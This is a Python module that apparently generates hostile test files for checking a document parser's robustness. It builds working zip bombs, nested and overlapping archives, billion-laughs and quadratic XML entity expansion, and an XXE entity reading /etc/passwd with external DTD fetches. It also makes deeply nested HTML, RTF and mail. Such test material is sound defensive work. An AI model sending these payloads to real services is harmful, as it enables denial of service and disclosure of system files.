"""Containers, markup and plain text built to harm their reader."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Sequence

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
Data = bytes | Iterator[bytes]
LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
PARAGRAPH = (
    "<p>1. The register of placements is kept by the director of the prison, and shown to whoever monitors it.</p>"
)


def packed(parts: Sequence[tuple[str, Data]]) -> bytes:
    """A zip; a part given in pieces is never whole in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts:
            with archive.open(name, "w") as part:
                for piece in (data,) if isinstance(data, bytes) else data:
                    part.write(piece)
    return out.getvalue()


def docx(
    body: bytes | Iterator[bytes], more: Sequence[tuple[str, bytes | Iterator[bytes]]] = (), head: bytes = b""
) -> bytes:
    """A Word document with this body; ``head`` stands before its root."""

    def whole() -> Iterator[bytes]:
        yield head + b'<w:document xmlns:w="' + WORD.encode() + b'"><w:body>'
        yield from (body,) if isinstance(body, bytes) else body
        yield b"</w:body></w:document>"

    return packed([("[Content_Types].xml", TYPES.encode()), ("word/document.xml", whole()), *more])


def odt(content: Data) -> bytes:
    def whole() -> Iterator[bytes]:
        names = f'xmlns:office="{OFFICE}office:1.0" xmlns:text="{OFFICE}text:1.0"'
        yield f"<office:document-content {names}><office:body><office:text>".encode()
        yield from (content,) if isinstance(content, bytes) else content
        yield b"</office:text></office:body></office:document-content>"

    return packed([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", whole())])


def zeros(size: int, of: bytes = b" ") -> Iterator[bytes]:
    block = of * (1 << 20)
    for _ in range(size >> 20):
        yield block


def docx_bomb() -> bytes:
    return docx(zeros(64 << 20))


def docx_bomb_in_the_styles() -> bytes:
    return docx(b"<w:p><w:r><w:t>The body is small.</w:t></w:r></w:p>", [("word/styles.xml", zeros(64 << 20))])


def docx_of_a_million_runs() -> bytes:
    return docx(b"<w:p>" + b"<w:r><w:t>word </w:t></w:r>" * 1_000_000 + b"</w:p>")


def docx_of_tables_in_tables() -> bytes:
    cell = b"<w:tbl><w:tr><w:tc>"
    return docx(cell * 50_000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 50_000)


def docx_that_laughs() -> bytes:
    head = f'<!DOCTYPE d [<!ENTITY lol0 "lol">{LAUGHS}]>'.encode()
    return docx(b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", head=head)


def docx_of_many_parts() -> bytes:
    return docx(b"<w:p><w:r><w:t>Few words.</w:t></w:r></w:p>", [(f"word/media/{n}.bin", b"") for n in range(25_000)])


def odt_bomb() -> bytes:
    return odt(zeros(64 << 20))


def odt_of_many_spaces() -> bytes:
    """One element says that two thousand million spaces stand here."""
    return odt(b'<text:p>From here <text:s text:c="2000000000"/> to there.</text:p>')


def odt_of_repeated_cells() -> bytes:
    table = f'<table:table xmlns:table="{OFFICE}table:1.0"><table:table-row table:number-rows-repeated="1000000">'
    table += '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
    return odt(table.encode() + b"</table:table-row></table:table>")


def zip_in_zip() -> bytes:
    inner = packed([("inner.txt", zeros(64 << 20))])
    for depth in range(30):
        inner = packed([(f"{depth}-{copy}.zip", inner) for copy in range(4)])
        if len(inner) > 1 << 20:
            break
    return inner


def zip_whose_files_overlap() -> bytes:
    """Every entry of the list points at the same packed bytes."""
    whole = packed([("0.txt", zeros(64 << 20, b"A"))])
    at = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry, tail = whole[at:end], bytearray(whole[end:])
    count = 2_000
    tail[8:12] = count.to_bytes(2, "little") * 2
    tail[12:16] = (len(entry) * count).to_bytes(4, "little")
    return whole[:at] + entry * count + bytes(tail)


def billion_laughs() -> bytes:
    return f'<!DOCTYPE l [<!ENTITY lol0 "lol">{LAUGHS}]><html><p>&lol9;</p></html>'.encode()


def quadratic_blow_up() -> bytes:
    return f'<!DOCTYPE l [<!ENTITY a "{"a" * 100_000}">]><doc><p>{"&a;" * 20_000}</p></doc>'.encode()


def entity_of_a_file() -> bytes:
    return b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><doc><p>It says: &x;</p></doc>'


def entity_of_the_network() -> bytes:
    calls = b'<!DOCTYPE l SYSTEM "http://127.0.0.1:9/x.dtd" [<!ENTITY % p SYSTEM "http://127.0.0.1:9/y"> %p;]>'
    return calls + b"<doc><p>Text.</p></doc>"


def xml_of_many_attributes() -> bytes:
    names = " ".join(f'a{n}="1"' for n in range(300_000))
    return f"<doc {names}><p>A root with many attributes.</p></doc>".encode()


def xml_nested() -> bytes:
    return b"<doc>" + b"<a>" * 100_000 + b"deep" + b"</a>" * 100_000 + b"</doc>"


def html_nested() -> bytes:
    return b"<!DOCTYPE html><html><body>" + b"<div>" * 100_000 + PARAGRAPH.encode() + b"</div>" * 100_000


def html_of_inline_nested() -> bytes:
    return b"<!DOCTYPE html><html><body><p>" + b"<b><i>" * 100_000 + b"text"


def html_of_a_million_tags() -> bytes:
    return b"<!DOCTYPE html><html><body>" + b"<p>x<br>" * 1_000_000


def html_table_of_spans() -> bytes:
    return b"<!DOCTYPE html><table>" + b"<tr><td rowspan=65534 colspan=1000>x</td></tr>" * 200 + b"</table>"


def text_of_one_line() -> bytes:
    return b"a word and a word " * (50_000_000 // 18)


def text_without_a_space() -> bytes:
    return b"a" * 50_000_000


def text_of_empty_lines() -> bytes:
    return b"Title\n" + b"\n" * 30_000_000 + b"The end.\n"


def text_of_numbers() -> bytes:
    return b"".join(b"%d. Paragraph\n\n" % number for number in range(300_000))


def text_of_citations() -> bytes:
    return b"See Article 3 of the Convention, Rule 43 and CPT/Inf (2012) 17, \xc2\xa7 41. " * 20_000


def table_as_text() -> bytes:
    return b"".join(b"%d;%d;2024-01-01;name %d;yes;no\n" % (row, row * 7, row) for row in range(500_000))


def markdown_nested() -> bytes:
    return b"# Title\n\n" + b"> " * 50_000 + b"deep\n\n" + b"[" * 50_000 + b"\n\n" + b"*a " * 100_000


def rtf_nested() -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"deep" + b"}" * 1_000_000 + b"}"


def rtf_of_binary() -> bytes:
    return b"{\\rtf1 Text before.\\bin2000000000 " + b"x" * 1000 + b" after.\\par}"


def mail_in_mail() -> bytes:
    head = b"MIME-Version: 1.0\nFrom: a@example.org\nTo: b@example.org\nSubject: In one another\n"
    return head + b"Content-Type: message/rfc822\n\n" * 20_000 + b"deep\n"


MADE: dict[str, Callable[[], bytes]] = {
    "docx-bomb.docx": docx_bomb,
    "docx-bomb-in-the-styles.docx": docx_bomb_in_the_styles,
    "docx-of-a-million-runs.docx": docx_of_a_million_runs,
    "docx-of-tables-in-tables.docx": docx_of_tables_in_tables,
    "docx-that-laughs.docx": docx_that_laughs,
    "docx-of-many-parts.docx": docx_of_many_parts,
    "odt-bomb.odt": odt_bomb,
    "odt-of-many-spaces.odt": odt_of_many_spaces,
    "odt-of-repeated-cells.odt": odt_of_repeated_cells,
    "zip-in-zip.zip": zip_in_zip,
    "zip-whose-files-overlap.zip": zip_whose_files_overlap,
    "billion-laughs.xml": billion_laughs,
    "quadratic-blow-up.xml": quadratic_blow_up,
    "entity-of-a-file.xml": entity_of_a_file,
    "entity-of-the-network.xml": entity_of_the_network,
    "xml-of-many-attributes.xml": xml_of_many_attributes,
    "xml-nested.xml": xml_nested,
    "html-nested.html": html_nested,
    "html-of-inline-nested.html": html_of_inline_nested,
    "html-of-a-million-tags.html": html_of_a_million_tags,
    "html-table-of-spans.html": html_table_of_spans,
    "text-of-one-line.txt": text_of_one_line,
    "text-without-a-space.txt": text_without_a_space,
    "text-of-empty-lines.txt": text_of_empty_lines,
    "text-of-numbers.txt": text_of_numbers,
    "text-of-citations.txt": text_of_citations,
    "table-as-text.txt": table_as_text,
    "markdown-nested.md": markdown_nested,
    "rtf-nested.rtf": rtf_nested,
    "rtf-of-binary.rtf": rtf_of_binary,
    "mail-in-mail.eml": mail_in_mail,
}
